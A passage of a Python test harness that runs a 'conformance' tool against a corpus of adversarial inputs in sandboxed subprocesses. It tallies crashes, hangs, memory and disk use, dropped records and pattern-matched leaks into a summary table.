        raise RuntimeError("running as root needs setpriv (util-linux) for this input")
    return [setpriv, "--bounding-set", "-dac_override,-dac_read_search", "--"]


def run_command(command: Command, cwd: Path) -> tuple[int | None, str, str, float, float, bool]:
    """(exit code or None on a hang, stdout, stderr, peak RSS MB, MB written, hung)."""
    out_path = cwd / f".stdout-{threading.get_ident()}"
    err_path = cwd / f".stderr-{threading.get_ident()}"
    env = dict(os.environ)
    env.pop("GITHUB_STEP_SUMMARY", None)
    env["PYTHONPATH"] = str(REPO) + os.pathsep + env.get("PYTHONPATH", "")
    env["CONFORMANCE_HISTORY_DB"] = str(cwd / "default-history.sqlite3")
    env["TMPDIR"] = str(cwd)
    with out_path.open("wb") as out, err_path.open("wb") as err:
        prefix = _drop_privileges() if command.unprivileged else []
        proc = subprocess.Popen(
            [*prefix, sys.executable, "-m", "conformance", *command.argv],
            cwd=cwd,
            stdin=subprocess.PIPE if command.stdin is not None else subprocess.DEVNULL,
            stdout=out,
            stderr=err,
            env=env,
            preexec_fn=_limits,
            start_new_session=True,
        )
        if command.stdin is not None:
            assert proc.stdin is not None
            try:
                proc.stdin.write(command.stdin)
                proc.stdin.close()
            except BrokenPipeError:
                pass
        started = time.monotonic()
        signalled = False
        hung = False
        while True:
            pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
            if pid:
                break
            elapsed = time.monotonic() - started
            if command.send_signal and not signalled and elapsed >= command.send_signal[1]:
                os.kill(proc.pid, command.send_signal[0])
                signalled = True
            if elapsed > command.timeout:
                hung = True
                os.killpg(proc.pid, signal.SIGKILL)
                pid, status, usage = os.wait4(proc.pid, 0)
                break
            time.sleep(0.01)
        proc.returncode = 0  # reaped by wait4
    code = os.waitstatus_to_exitcode(status)
    stdout = out_path.read_bytes().decode("utf-8", "replace")
    stderr = err_path.read_bytes().decode("utf-8", "replace")
    out_path.unlink()
    err_path.unlink()
    return (
        None if hung else code,
        stdout,
        stderr,
        usage.ru_maxrss / 1024,
        usage.ru_oublock * 512 / MB,
        hung,
    )


def _outputs(folder: Path) -> Iterator[tuple[str, str]]:
    for path in sorted(folder.iterdir()):
        if (
            path.is_file()
            and path.suffix not in (".ndjson", ".xml", ".json-src")
            and path.name != "manifest.json"
        ) and path.stat().st_size <= 64 * MB:
            yield path.name, path.read_bytes().decode("utf-8", "replace")
    for db in folder.glob("*.sqlite3"):
        try:
            with sqlite3.connect(db) as conn:
                dump = "\n".join(conn.iterdump())
            conn.close()
        except sqlite3.DatabaseError:
            continue
        yield db.name, dump


def build_case(item: Case, base: Path) -> tuple[Path, Run | Exception, float]:
    """Write one input's files; (its folder, its run or why the generator failed, seconds)."""
    work = base / item.name
    work.mkdir(parents=True)
    started = time.monotonic()
    try:
        return work, item.build(work), time.monotonic() - started
    except Exception as exc:
        return work, exc, time.monotonic() - started


def _release_memory() -> None:
    """Give the generators' memory back, so that no child starts with it (a forked
    child's peak RSS starts at its parent's RSS at the time of the fork)."""
    import ctypes
    import gc

    gc.collect()
    with contextlib.suppress(OSError, AttributeError):
        ctypes.CDLL("libc.so.6").malloc_trim(0)


def run_case(
    item: Case, work: Path, run: Run | Exception, build_seconds: float, verbose: bool = False
) -> Outcome:
    outcome = Outcome(item.name, item.family)
    started = time.monotonic() - build_seconds
    if isinstance(run, Exception):  # the generator itself failed: count it, say why
        outcome.wrong += 1
        outcome.notes.append(f"generator failed: {run!r}")
        return outcome
    planted_inputs = {p.name for p in work.iterdir()}
    patterns = leak_patterns()
    for command in run.commands:
        code, stdout, stderr, rss, written, hung = run_command(command, work)
        outcome.rss_mb = max(outcome.rss_mb, rss)
        outcome.disk_mb = max(outcome.disk_mb, written)
        label = " ".join(a if len(a) < 40 else a[:37] + "..." for a in command.argv[:4])
        if hung:
            outcome.hangs += 1
            outcome.notes.append(f"{label}: still running after {command.timeout:.0f} s")
            continue
        if "Traceback (most recent call last)" in stderr:
            outcome.crashes += 1
            outcome.notes.append(f"{label}: traceback: {stderr.strip().splitlines()[-1][:200]}")
        elif code == 3:
            outcome.exit3 += 1
            outcome.notes.append(f"{label}: exit 3: {stderr.strip()[:200]}")
        elif code not in command.allowed:
            outcome.crashes += 1
            outcome.notes.append(f"{label}: exit {code}: {stderr.strip()[-200:]}")
        elif code == 2 and len([line for line in stderr.splitlines() if line.strip()]) != 1:
            outcome.crashes += 1
            outcome.notes.append(f"{label}: exit 2 without one clean line: {stderr[:200]!r}")
        for text, where in ((stdout, "stdout"), (stderr, "stderr")):
            for pattern in patterns:
                if pattern.search(text):
                    outcome.leaks += 1
                    outcome.notes.append(f"{label}: {where} carries {pattern.pattern[:30]!r}")
        if verbose:
            print(
                f"  {item.name}: {label} -> {code} rss {rss:.0f} MB\n{stderr[-400:]}",
                file=sys.stderr,
            )
    for name, text in _outputs(work):
        if name in planted_inputs:
            continue
        for pattern in patterns:
            if pattern.search(text):
                outcome.leaks += 1
                outcome.notes.append(f"{name} carries {pattern.pattern[:30]!r}")
    card_path = work / "card.json"
    if any(c.check_card and "card.json" in c.argv for c in run.commands):
        card: dict[str, Any] | None = None
        if card_path.is_file():
            try:
                card = combined(orjson.loads(card_path.read_bytes()))
            except orjson.JSONDecodeError:
                card = None
        if card is None:
            if any(c.argv[0] == "validate" and c.allowed != frozenset({2}) for c in run.commands):
                outcome.wrong += 1
                outcome.notes.append("no scorecard written")
        else:
            read = card.get("counts", {}).get("records_read")
            if run.records is not None and read != run.records:
                outcome.drops += 1
                outcome.notes.append(f"records read {read}, generated {run.records}")
            if run.expect is not None:
                reason = run.expect(card)
                if reason:
                    outcome.wrong += 1
                    outcome.notes.append(reason)
    elif run.expect is not None:
        reason = run.expect({})
        if reason:
            outcome.wrong += 1
            outcome.notes.append(reason)
    small_input = run.input_bytes < 50 * MB
    if small_input and outcome.rss_mb > RSS_LIMIT_MB:
        outcome.rss_over += 1
    if small_input and outcome.disk_mb > DISK_LIMIT_MB:
        outcome.disk_over += 1
    outcome.seconds = time.monotonic() - started
    return outcome


def _fix_permissions(folder: Path) -> None:
    for root, dirs, _files in os.walk(folder):
        for name in dirs:
            with contextlib.suppress(OSError):
                os.chmod(os.path.join(root, name), 0o755)


def run_corpus(
    names: Sequence[str] = (), quick: bool = False, jobs: int = 2, verbose: bool = False
) -> list[Outcome]:
    chosen = [c for c in CASES if (not names or c.name in names) and (c.quick or not quick)]
    base = Path(tempfile.mkdtemp(prefix="hostile-corpus-"))
    base.chmod(0o755)
    try:
        built = [build_case(c, base) for c in chosen]  # first, all in this process
        _release_memory()
        with ThreadPoolExecutor(max_workers=max(1, jobs)) as pool:
            return list(
                pool.map(
                    lambda pair: run_case(pair[0], *pair[1], verbose),
                    zip(chosen, built, strict=True),
                )
            )
    finally:
        _fix_permissions(base)
        shutil.rmtree(base, ignore_errors=True)


COLUMNS = ("crashes", "exit3", "hangs", "rss_over", "disk_over", "drops", "leaks", "wrong")


def table(outcomes: Sequence[Outcome]) -> str:
    lines = [
        f"{'input':<40} {'family':<9} {'crash':>5} {'exit3':>5} {'hang':>4} {'rss MB':>7} "
        f"{'disk MB':>7} {'drop':>4} {'leak':>4} {'wrong':>5} {'s':>5}"
    ]
    for o in outcomes:
        lines.append(
            f"{o.name:<40} {o.family:<9} {o.crashes:>5} {o.exit3:>5} {o.hangs:>4} {o.rss_mb:>7.0f} "
            f"{o.disk_mb:>7.0f} {o.drops:>4} {o.leaks:>4} {o.wrong:>5} {o.seconds:>5.1f}"
        )
        for note in o.notes:
            lines.append(f"    {note}")
    total = {c: sum(getattr(o, c) for o in outcomes) for c in COLUMNS}
    peak = max((o.rss_mb for o in outcomes), default=0.0)
    lines.append("")
    lines.append(
        f"inputs tried {len(outcomes)} | crashes {total['crashes']} | exit 3 {total['exit3']} | "
        f"hangs {total['hangs']} | peak RSS {peak:.0f} MB (over {RSS_LIMIT_MB} MB: "
        f"{total['rss_over']}) | disk over {DISK_LIMIT_MB} MB: {total['disk_over']} | "
        f"silent drops {total['drops']} | leaks {total['leaks']} | wrong {total['wrong']}"
    )
    return "\n".join(lines)


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--quick", action="store_true", help="only the fast subset")
    parser.add_argument("--only", action="append", default=[], metavar="NAME")
    parser.add_argument("--jobs", type=int, default=2)
    parser.add_argument("--list", action="store_true", help="list the inputs and stop")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    if args.list:
        for c in CASES:
            print(f"{c.name:<40} {c.family:<9} {'quick' if c.quick else ''}")
        return 0
    started = time.monotonic()
    outcomes = run_corpus(args.only, args.quick, args.jobs, args.verbose)
    print(table(outcomes))
    print(f"({time.monotonic() - started:.0f} s)")
    return 0 if all(o.ok for o in outcomes) else 1


if __name__ == "__main__":
    sys.exit(main())
